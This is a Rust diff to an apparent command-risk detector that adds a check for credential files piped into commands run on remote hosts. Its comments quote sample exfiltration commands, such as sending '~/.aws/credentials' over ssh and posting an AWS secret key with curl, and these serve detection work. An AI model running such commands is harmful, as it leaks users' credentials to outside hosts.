@@ -139,6 +139,22 @@ pub(super) fn taint_findings(parsed: &ParsedCommand, readers: &[usize]) -> Vec<F
             findings.push(flow_finding(parsed, t, c, host));
             continue;
         }
+        // A secret file given as the input of a command that runs on another machine
+        // (`ssh h 'cat >> loot' < ~/.aws/credentials`): the file crosses to that host.
+        if let (Some(host), Some(StdinSource::File { path })) = (&c.remote, &c.stdin)
+            && !host.contains("localhost")
+            && !host.contains("127.0.0.1")
+            && let Some(kind) = riskgate_model::credentials::sensitive_kind(path)
+        {
+            let t = Taint {
+                data: Data::Secret,
+                from: i,
+                what: format!("{path} ({kind})"),
+                renamed: false,
+            };
+            findings.push(flow_finding(parsed, &t, c, host));
+            continue;
+        }
         // a secret variable sent under its own name: handed to a sender's input as a
         // here-string (`curl -d @- URL <<< "$AWS_SECRET_ACCESS_KEY"`), or, named for its
         // vendor, put in the body of a request to a host that is not the vendor's (`curl -d
